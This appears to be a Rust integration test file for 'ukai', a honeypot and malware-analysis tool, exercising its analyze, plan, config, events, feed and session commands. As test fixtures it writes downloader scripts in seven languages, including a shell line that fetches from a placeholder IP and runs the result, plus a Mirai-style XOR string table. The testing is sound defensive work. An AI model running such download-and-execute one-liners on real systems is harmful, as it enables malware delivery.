//! The commands beside `ukai up`, as a person and as a program use them.

use crate::circle::{distribution_server, infect};
use crate::support::bot::Bot;
use crate::support::program::{Ukai, binary};
use crate::support::specimen::{Contacts, elf_arm};
use crate::support::wait_for;
use serde_json::Value;
use std::process::{Command, Output};
use std::time::Duration;

fn ukai(arguments: &[&str]) -> Output {
    Command::new(binary()).args(arguments).output().expect("ukai runs")
}

fn text(output: &Output) -> String {
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout.clone()).expect("UTF-8")
}

#[test]
fn analyze_finds_plain_and_hidden_contacts() {
    let folder = tempfile::TempDir::new().expect("a temporary folder");
    let contacts = Contacts::unique("analyze", 70);
    let file = folder.path().join("bot");
    std::fs::write(&file, elf_arm(&contacts)).expect("a file");
    let file = file.to_str().expect("a UTF-8 path");

    let analysis: Value =
        serde_json::from_str(&text(&ukai(&["analyze", file, "--json"]))).expect("JSON");
    assert_eq!(analysis["outcome"]["state"], "complete");
    assert_eq!(analysis["elf"]["machine"], "arm");
    let found: Vec<&str> = analysis["observables"]
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|found| found["observable"]["value"].as_str())
        .collect();
    for value in contacts.names().chain(contacts.addresses()) {
        assert!(found.contains(&value.as_str()), "{value} in {found:?}");
    }

    let shown = text(&ukai(&["analyze", file]));
    assert!(shown.contains("ARM") && shown.contains("hidden-analyze.example"), "{shown}");
    let missing = ukai(&["analyze", "/nonexistent/file"]);
    assert_eq!(missing.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("/nonexistent/file"));
}

#[test]
fn analyze_shows_headers_and_artefacts_and_exports_configurations() {
    let folder = tempfile::TempDir::new().expect("a temporary folder");
    let path = |name: &str| folder.path().join(name).to_str().expect("UTF-8").to_owned();
    let source = "int main(void) { return 0; }\n\
        const char text[] = \"Global\\\\OnlyOnce ftp://bob:secret@files.example/a\";\n";
    std::fs::write(path("a.c"), source).expect("a file");
    let made = Command::new("x86_64-w64-mingw32-gcc")
        .args(["-o", &path("a.exe"), &path("a.c")])
        .status()
        .expect("gcc-mingw-w64-x86-64 is installed");
    assert!(made.success());
    let shown = text(&ukai(&["analyze", &path("a.exe")]));
    for part in ["imphash", "KERNEL32.dll", "bob:secret"] {
        assert!(shown.contains(part), "{part} in {shown}");
    }

    // A table under 0x22 as Mirai's source lays it out, in a program that cannot run.
    let mut bot = elf_arm(&Contacts::unique("toushi", 71));
    let host = "cnc-toushi.example";
    for entry in [host, "/proc/", "/exe", "/maps", "/dev/watchdog", "shell", "enable"] {
        bot.push(0);
        bot.extend(entry.bytes().chain([0]).map(|byte| byte ^ 0x22));
        bot.push(0);
        if entry == host {
            bot.extend([0x22, 0x17 ^ 0x22, 0]);
        }
    }
    std::fs::write(path("bot"), bot).expect("a file");
    let told = text(&ukai(&["analyze", "--export", "mirai-toushi", &path("bot")]));
    let lines: Vec<Value> =
        told.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect();
    let table = lines.iter().find(|it| it["script_name"] == "xor_table.py").expect("a table");
    assert_eq!(table["ghidra_current_program"]["name"], "bot");
    assert_eq!(table["ghidra_current_program"]["language_id"], "ARM:LE:32:v8");
    assert_eq!(table["table_lock_val_func"]["table_key"], "0x22");
    let entries = table["table_init_func"]["tables"].as_array().expect("a list");
    assert!(entries.iter().any(|it| it["str_data"] == host), "{told}");
    assert!(entries.iter().any(|it| it["int_data"] == 23), "{told}");
    let wrong = ukai(&["analyze", "--export", "mirai-toushi", "--json", &path("bot")]);
    assert_eq!(wrong.status.code(), Some(2));
}

#[test]
fn scripts_of_every_language_run_inside_of_the_jail() {
    let url = "http://192.0.2.7/first";
    let scripts = [
        ("a.sh", format!("#!/bin/sh\nwget {url} -O /tmp/a; sh /tmp/a\n")),
        ("a.py", format!("import urllib.request\nurllib.request.urlopen('{url}')\n")),
        ("a.pl", format!("#!/usr/bin/perl\nuse LWP::Simple;\ngetstore('{url}', '/tmp/a');\n")),
        ("a.ps1", format!("$c = New-Object Net.WebClient\n$c.DownloadFile('{url}', 'C:\\a')\n")),
        ("a.bat", format!("@echo off\r\ncertutil -urlcache -f {url} %TEMP%\\a.exe\r\n")),
        (
            "a.vbs",
            format!(
                "Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\nh.Open \"GET\", \"{url}\", False\r\nh.Send\r\n"
            ),
        ),
        (
            "a.js",
            format!(
                "var h = new ActiveXObject('MSXML2.XMLHTTP');\nh.open('GET', '{url}', false);\nh.send();\n"
            ),
        ),
    ];
    let folder = tempfile::TempDir::new().expect("a temporary folder");
    for (name, script) in scripts {
        let path = folder.path().join(name);
        std::fs::write(&path, script).expect("a file");
        let path = path.to_str().expect("a UTF-8 path");
        // Alone in a process of its own, and twice in forks of one.
        for files in [&[path][..], &[path, path]] {
            let told = text(&ukai(&[&["analyze", "--json"], files].concat()));
            for line in told.lines() {
                let analysis: Value = serde_json::from_str(line).expect("JSON");
                assert_eq!(analysis["outcome"]["state"], "complete", "{name}: {line}");
                let acts = analysis["acts"].as_array();
                let acts = acts.unwrap_or_else(|| panic!("{name} does nothing: {line}"));
                assert!(acts.iter().any(|it| it["url"] == url), "{name}: {line}");
            }
        }
    }
}

#[test]
fn a_plan_is_a_table_json_and_a_configuration() {
    let folder = tempfile::TempDir::new().expect("a temporary folder");
    let list = folder.path().join("prefixes");
    std::fs::write(&list, "2001:db8::/47 # ours\n\n").expect("a file");
    let list = list.to_str().expect("a UTF-8 path");
    let arguments = ["plan", "198.18.0.0/16", "--file", list, "--seed", "s"];
    let plan: Value =
        serde_json::from_str(&text(&ukai(&[&arguments[..], &["--json"]].concat()))).expect("JSON");
    let sensors = plan["sensors"].as_array().expect("a list");
    assert_eq!(sensors.len(), 130);
    let table = text(&ukai(&arguments));
    let toml = text(&ukai(&[&arguments[..], &["--format", "toml"]].concat()));
    for sensor in sensors {
        let address = sensor["address"].as_str().expect("an address");
        assert!(table.contains(address) && toml.contains(&format!("\"{address}\"")));
    }
    let config = folder.path().join("ukai.toml");
    std::fs::write(&config, toml).expect("a file");
    text(&ukai(&["config", "check", config.to_str().expect("a UTF-8 path")]));

    let full = ukai(&["plan", "198.18.0.0/23", "--exclude", "198.18.0.0/16"]);
    assert_eq!(full.status.code(), Some(3));
    assert!(String::from_utf8_lossy(&full.stderr).contains("no address is left"));
    std::fs::write(list, "198.18.0.0/16\nnonsense\n").expect("a file");
    let wrong = ukai(&["plan", "--file", list]);
    assert_eq!(wrong.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&wrong.stderr).contains("line 2: \"nonsense\""));
}

#[test]
fn the_default_configuration_checks() {
    let folder = tempfile::TempDir::new().expect("a temporary folder");
    let file = folder.path().join("ukai.toml");
    std::fs::write(&file, text(&ukai(&["config", "default"]))).expect("a file");
    let said = text(&ukai(&["config", "check", file.to_str().expect("a UTF-8 path")]));
    assert!(said.contains("valid"), "{said}");
    let default: Value =
        serde_json::from_str(&text(&ukai(&["config", "default", "--json"]))).expect("JSON");
    assert_eq!(default["hub"]["listen"], "127.0.0.1:8765");
    std::fs::write(&file, "[hub]\nlissten = 1\n").expect("a file");
    let wrong = ukai(&["config", "check", "--json", file.to_str().expect("a UTF-8 path")]);
    assert_eq!(wrong.status.code(), Some(2));
    let wrong: Value = serde_json::from_slice(&wrong.stdout).expect("JSON");
    assert!(
        !wrong["valid"].as_bool().expect("a verdict")
            && wrong["error"].to_string().contains("lissten")
    );
}

#[test]
fn events_and_feeds_can_be_had_while_running_and_after() {
    let running = Ukai::start();
    let contacts = Contacts::unique("cli", 71);
    let server = distribution_server(&contacts);
    infect(&mut Bot::connect(running.service("telnet", "camera-arm")), &server);
    wait_for("the feed", Duration::from_secs(20), || {
        running.get_text("/feeds/domains.txt").contains("hidden-cli.example").then_some(())
    });
    let folder = tempfile::TempDir::new().expect("a temporary folder");
    let configuration = folder.path().join("ukai.toml");
    std::fs::copy(running.configuration(), &configuration).expect("a copy");
    let data = folder.path().join("data");
    let check = |data: &str| {
        let configuration = configuration.to_str().expect("a UTF-8 path");
        let place = ["--config", configuration, "--data", data];
        let events =
            text(&ukai(&[&["events", "--kind", "command.input", "--json"][..], &place].concat()));
        assert!(events.lines().count() >= 5, "{events}");
        for line in events.lines() {
            let event: Value = serde_json::from_str(line).expect("one JSON object a line");
            assert_eq!(event["kind"], "command.input");
        }
        let list = text(&ukai(&[&["feed", "list"][..], &place].concat()));
        assert!(list.contains("rpz.zone") && list.contains("nftables.nft"), "{list}");
        let zone = text(&ukai(&[&["feed", "export", "rpz.zone"][..], &place].concat()));
        assert!(contacts.names().all(|name| zone.contains(name.as_str())), "{zone}");
        sessions_can_be_seen(&place);
        let unknown = ukai(&[&["feed", "export", "nonsense"][..], &place].concat());
        assert_eq!(unknown.status.code(), Some(2));
        assert!(
            String::from_utf8_lossy(&unknown.stderr).contains("rpz.zone"),
            "the error lists what there is"
        );
    };
    check(running.data().to_str().expect("a UTF-8 path"));
    let kept =
        Command::new("cp").arg("-a").arg(running.data()).arg(&data).status().expect("cp runs");
    assert!(kept.success());
    // A copy of a running data folder is what a crash leaves behind.
    let _ = std::fs::remove_file(data.join("running.json"));
    check(data.to_str().expect("a UTF-8 path"));
}

/// A session in every form that the terminal has for it.
fn sessions_can_be_seen(place: &[&str]) {
    let session = |words: &[&str]| text(&ukai(&[&["session"], words, place].concat()));
    let list = session(&["list", "--has", "command", "--json"]);
    let first: Value = serde_json::from_str(list.lines().next().expect("one")).expect("JSON");
    let id = first["id"].as_str().expect("an identity");
    let shown = session(&["show", id]);
    assert!(shown.contains("accepted") && shown.contains("command"), "{shown}");
    let whole: Value = serde_json::from_str(&session(&["show", id, "--json"])).expect("JSON");
    assert!(whole["events"].as_array().expect("events").len() > 5);
    let cast = session(&["export", id]);
    assert!(cast.contains("\"version\":2"), "{cast}");
    let screen = session(&["export", id, "--format", "text"]);
    assert!(screen.contains("assword") && !screen.contains('\x1b'), "{screen}");
    let replayed = session(&["replay", id, "--speed", "1000", "--idle-limit", "0.1"]);
    assert!(replayed.contains("assword"), "{replayed}");
    for form in ["json", "cowrie"] {
        for line in session(&["export", id, "--format", form]).lines() {
            let event: Value = serde_json::from_str(line).expect("one JSON object a line");
            assert!(event.get("kind").or(event.get("eventid")).is_some(), "{event}");
        }
    }
    let cowrie = text(&ukai(&[&["events", "--format", "cowrie", "--limit", "0"], place].concat()));
    for id in ["session.connect", "login.success", "command.input", "session.closed"] {
        assert!(cowrie.contains(&format!("\"cowrie.{id}\"")), "{id}: {cowrie}");
    }
    let absent = "018bcfe5-687b-7fff-8fff-ffffffffffff";
    for words in [&["show", absent][..], &["replay", absent], &["show", "nonsense"]] {
        let output = ukai(&[&["session"], words, place].concat());
        assert_eq!(output.status.code(), Some(2), "{words:?}");
    }
}
